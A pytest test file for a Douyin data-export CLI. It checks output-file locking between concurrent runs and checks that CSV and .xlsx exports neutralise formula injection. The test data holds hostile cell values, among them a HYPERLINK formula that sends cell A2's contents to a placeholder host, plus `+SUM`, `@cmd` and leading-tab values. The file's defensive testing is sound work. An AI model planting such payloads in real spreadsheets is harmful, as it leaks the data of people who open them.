"""Output files end to end: one run per output, spreadsheet-safe CSV, .xlsx and gzip files.

Real subprocesses write real files from the embedded sandbox (or a scripted local server for
hostile cell values); files are read back with the csv module, gzip, openpyxl and, when it is
installed, LibreOffice itself.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from apiserver import media, video
from helpers.cli import (
    MEDIA_KEY,
    SEED,
    assert_ok,
    clean_env,
    cli,
    day,
    jsonl_rows,
    keyed,
    media_truth,
    run_until,
    sqlite_rows,
)
from record_server import RecordServer

pytestmark = pytest.mark.slow

PLANS = [11, 12]
TALENTS = ["dy_a", "dy_b", "dy_c"]
MEDIA = ["pull", "talent-media", "--plan-id", str(PLANS[0]), "--plan-id", str(PLANS[1]),
         *(x for t in TALENTS for x in ("--douyin-id", t))]
SLOW = ["--sandbox", "--sandbox-seed", str(SEED), "--sandbox-latency", "0.03",
        "--sandbox-qps", "120", "--rate-limit", "100", "--quiet"]
HOSTILE = '=HYPERLINK("http://x?"&A2,"点我")'
TITLES = [HOSTILE, "-1+1", "+SUM(A1)", "@cmd", "\tlead tab", "\rlead cr", "普通标题",
          "'=already quoted", "a=b"]


# -- one run per output ---------------------------------------------------------------------


def _lock_pid(path: Path) -> int | None:
    try:
        text = path.read_text().strip()
    except FileNotFoundError:
        return None
    return int(text) if text.isdigit() else None


@pytest.mark.parametrize("suffix", [".jsonl", ".sqlite"])
def test_a_second_run_on_the_same_output_exits_10_naming_the_first(
        tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"media{suffix}"
    lock = tmp_path / f"media{suffix}.lock"
    args = [*MEDIA, *SLOW, "--out", str(out)]
    first = subprocess.Popen([sys.executable, "-m", "douyin_async", *args],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=clean_env())
    try:
        started = time.monotonic()
        while _lock_pid(lock) != first.pid:
            assert first.poll() is None, "the first run ended before it was seen"
            assert time.monotonic() - started < 30
            time.sleep(0.01)
        first.send_signal(signal.SIGSTOP)  # a stalled run holds its lock all the same
        others = [subprocess.Popen([sys.executable, "-m", "douyin_async", *args, *extra],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                   text=True, env=clean_env())
                  for extra in ([], ["--resume"], ["--force"])]
        for other in others:
            _, err = other.communicate(timeout=30)
            assert other.returncode == 10, err
            (line,) = err.splitlines()
            assert f"pid {first.pid}" in line and str(out) in line
        status = cli("status", str(out), timeout=30)
        assert status.returncode == 0, status.stderr
        assert f"being written now by pid {first.pid}" in status.stdout
        assert first.poll() is None
        first.send_signal(signal.SIGCONT)
        _, err = first.communicate(timeout=120)
        assert first.returncode == 0, err
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
        assert first.stderr is not None
        first.stderr.close()
    truth = media_truth(PLANS, TALENTS, 3)
    rows = jsonl_rows(out) if suffix == ".jsonl" else sqlite_rows(out, "talent_media")
    assert keyed([{k: v for k, v in r.items() if k != "extra"} for r in rows],
                 MEDIA_KEY) == truth
    assert not lock.exists()  # the run that ended took its lock file with it


def test_a_killed_run_releases_its_lock(tmp_path: Path) -> None:
    out = tmp_path / "media.jsonl"
    lock = tmp_path / "media.jsonl.lock"
    args = [*MEDIA, *SLOW, "--out", str(out)]
    assert not run_until(args, lambda: out.exists() and out.stat().st_size > 20_000)
    assert lock.exists()  # SIGKILL left the file, with its dead pid; the kernel freed the lock
    assert_ok(cli(*args, "--resume"))
    assert keyed(jsonl_rows(out), MEDIA_KEY) == media_truth(PLANS, TALENTS, 3)


# -- spreadsheet-safe CSV -----------------------------------------------------------------


def _hostile_server(server: RecordServer) -> None:
    server.videos = [{**video(i), "VideoTitle": title, "Author": title,
                      "AdShareCost1d": -12 - i} for i, title in enumerate(TITLES)]
    server.media = [media(i) for i in range(3)]


def _video_args(server: RecordServer, out: Path, *extra: str) -> list[str]:
    return ["pull", "task-videos", "--base-url", server.url, "--billing-date", day(-1),
            "--published-from", day(-20), "--published-to", day(-1), "--out", str(out),
            "--quiet", *extra]


def _token_env() -> dict[str, str]:
    return clean_env(DOUYIN_ACCESS_TOKEN="test-token")


def _csv_cells(path: Path) -> tuple[bytes, list[dict[str, str]]]:
    data = path.read_bytes()
    text = data.decode("utf-8-sig")
    return data[:3], list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_start_like_formulas_are_escaped_cell_by_cell(tmp_path: Path) -> None:
    safe, plain = tmp_path / "safe.csv", tmp_path / "plain.csv"
    with RecordServer() as server:
        _hostile_server(server)
        assert_ok(cli(*_video_args(server, safe), env=_token_env()))
        assert_ok(cli(*_video_args(server, plain, "--csv-plain"), env=_token_env()))
    head, rows = _csv_cells(safe)
    assert head == b"\xef\xbb\xbf"  # UTF-8 with a byte order mark: spreadsheets read Chinese
    assert len(rows) == len(TITLES)
    for i, (row, title) in enumerate(zip(rows, TITLES, strict=True)):
        escaped = "'" + title if title[0] in "=+-@\t\r" else title
        assert row["video_title"] == escaped and row["author"] == escaped
        assert row["ad_share_cost_1d"] == str(-12 - i)  # a negative number stays a number
        assert row["video_id"] == str(video(i)["VideoId"])  # ids as exact digits
    plain_head, plain_rows = _csv_cells(plain)
    assert plain_head != b"\xef\xbb\xbf" and plain.read_bytes().startswith(b"billing_date,")
    assert [r["video_title"] for r in plain_rows] == TITLES  # RFC 4180, verbatim


def test_talent_media_open_ids_are_escaped_in_csv(tmp_path: Path) -> None:
    out = tmp_path / "media.csv"
    assert_ok(cli(*MEDIA[:4], "--douyin-id", TALENTS[0], *SLOW, "--out", str(out)))
    _, rows = _csv_cells(out)
    truth = media_truth(PLANS[:1], TALENTS[:1], 3)
    assert len(rows) == len(truth)
    for row in rows:
        assert row["content_open_id"].startswith("'@")
        assert row["gmv"].isdigit()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_no_formula_from_spreadsheet_safe_csv(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    safe, plain = tmp_path / "safe.csv", tmp_path / "plain.csv"
    with RecordServer() as server:
        _hostile_server(server)
        assert_ok(cli(*_video_args(server, safe), env=_token_env()))
        assert_ok(cli(*_video_args(server, plain, "--csv-plain"), env=_token_env()))
    converted = tmp_path / "converted"
    for path in (safe, plain):
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                        "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
                        str(converted), str(path)], check=True, capture_output=True,
                       timeout=120)

    def formulas(name: str) -> list[str]:
        book = openpyxl.load_workbook(converted / name)
        return [c.value for row in book.active.iter_rows() for c in row if c.data_type == "f"]

    assert formulas("plain.xlsx")  # the check sees a formula when there is one
    assert formulas("safe.xlsx") == []
    rows = list(openpyxl.load_workbook(converted / "safe.xlsx").active.iter_rows(values_only=True))
    titles = [row[rows[0].index("video_title")] for row in rows[1:]]
    assert "'" + HOSTILE in titles and "普通标题" in titles


# -- .xlsx ----------------------------------------------------------------------------------


def test_xlsx_cells_are_typed_and_never_formulas(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "videos.xlsx"
    with RecordServer() as server:
        _hostile_server(server)
        assert_ok(cli(*_video_args(server, out), env=_token_env()))
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["task_videos"]
    sheet = book["task_videos"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert "publish_time (Asia/Shanghai)" in header
    column = {name: i for i, name in enumerate(header)}
    for i, (row, title) in enumerate(zip(rows[1:], TITLES, strict=True)):
        raw = video(i)
        cell = row[column["video_title"]]
        # A carriage return is stored as OOXML's escape _x000D_ (openpyxl leaves it as is).
        assert (cell.value, cell.data_type) == (title.replace("\r", "_x000D_"), "s")
        vid = row[column["video_id"]]
        assert (vid.value, vid.data_type) == (str(raw["VideoId"]), "s")
        assert row[column["task_id"]].value == str(raw["TaskId"])
        money = row[column["ad_share_cost_1d"]]
        assert money.value == -12 - i and money.data_type == "n"
        shanghai = dt.datetime.fromtimestamp(raw["PublishTime"], dt.UTC) + dt.timedelta(hours=8)
        assert row[column["publish_time (Asia/Shanghai)"]].value == shanghai.replace(tzinfo=None)
        assert row[column["billing_date"]].value == dt.datetime.fromisoformat(day(-1))
    assert all(c.data_type != "f" for row in rows for c in row)
    assert not (tmp_path / "videos.xlsx.rows.jsonl.gz").exists()  # the side file is gone


# -- gzip -----------------------------------------------------------------------------------
